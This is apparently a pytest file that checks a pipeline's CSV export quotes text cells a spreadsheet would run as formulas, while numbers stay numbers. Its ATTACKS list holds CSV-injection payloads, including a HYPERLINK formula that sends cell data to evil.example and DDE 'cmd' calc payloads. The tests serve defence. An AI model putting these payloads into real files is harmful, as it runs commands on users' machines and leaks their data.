"""CSV output is data to a spreadsheet: a text cell that would run as a formula gets a leading quote
(OWASP's CSV-injection guidance); numbers, negative ones included, stay numbers."""

import csv
import io
from datetime import date

import polars as pl
import pytest
import snapshot

from pipelines import export
from pipelines.cli import main

ATTACKS = [
    snapshot.FORMULA,
    '=HYPERLINK("https://evil.example/?"&A1, "click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
HARMLESS = ["o3", "a=b", " =1", "'quoted", "", "gpt-4o-mini"]


def written(frame: pl.DataFrame) -> str:
    out = io.StringIO()
    export.write_csv(frame, out)
    return out.getvalue()


def test_every_text_cell_a_spreadsheet_would_run_gets_a_leading_quote():
    frame = pl.DataFrame({"model": ATTACKS + HARMLESS})
    cells = [row[0] for row in csv.reader(io.StringIO(written(frame), newline=""))]
    assert cells == ["model", *(f"'{a}" for a in ATTACKS), *HARMLESS]


def test_numbers_dates_and_booleans_are_written_as_they_are():
    frame = pl.DataFrame(
        {
            "what": ["-x"],
            "change": [-12.5],
            "n": [-3],
            "on": [date(2026, 11, 3)],
            "cut": [True],
            "none": [None],
        }
    )
    assert written(frame).splitlines() == ["what,change,n,on,cut,none", "'-x,-12.5,-3,2026-11-03,true,"]


def test_category_list_and_header_cells_are_neutralized_too():
    frame = pl.DataFrame(
        {
            "=label()": pl.Series(["=1+1"], dtype=pl.Categorical),
            "tags": [["=a", "b"]],
            "pair": [{"k": "@x"}],
        }
    )
    assert written(frame).splitlines() == [
        "'=label(),tags,pair",
        '\'=1+1,"[""=a"", ""b""]","{""k"": ""@x""}"',
    ]


def test_sql_csv_neutralizes_formulas_and_keeps_negative_numbers(costcurve_home, capsys):
    snapshot.write(costcurve_home)
    query = (
        "select model, input_usd_per_mtok, pct, '-' || source as tag from history.token_prices order by pct"
    )
    assert main(["sql", query, "--format", "csv"]) == 0
    assert capsys.readouterr().out.splitlines() == [
        "model,input_usd_per_mtok,pct,tag",
        "'=cmd|' /C calc'!A0,2.500000000,-12.5,'-litellm",
        "o3,2.000000000,0.0,'-genai_prices",
    ]


@pytest.mark.parametrize("output", ["csv", "json"])
def test_changes_csv_neutralizes_formulas_and_keeps_negative_numbers(costcurve_home, capsys, output):
    snapshot.write(costcurve_home)
    assert main(["changes", "--since", "2026-11-01", "--format", output]) == 0
    out = capsys.readouterr().out
    if output == "csv":
        assert out.splitlines() == [
            "change_date,what,field,old_value,new_value,pct_change,direction,change_kind,dataset,source,scheduled",
            "2026-11-03,'@SUM(1+1)*cmd|' /C calc'!A0,input_usd_per_mtok,2.0,1.0,-50.0,cut,price,"
            "token_prices,'-litellm,false",
        ]
    else:  # JSON is not opened by a spreadsheet: the text stays exactly as the source wrote it.
        assert '"what": "@SUM(1+1)*cmd|\' /C calc\'!A0"' in out and '"pct_change": -50.0' in out
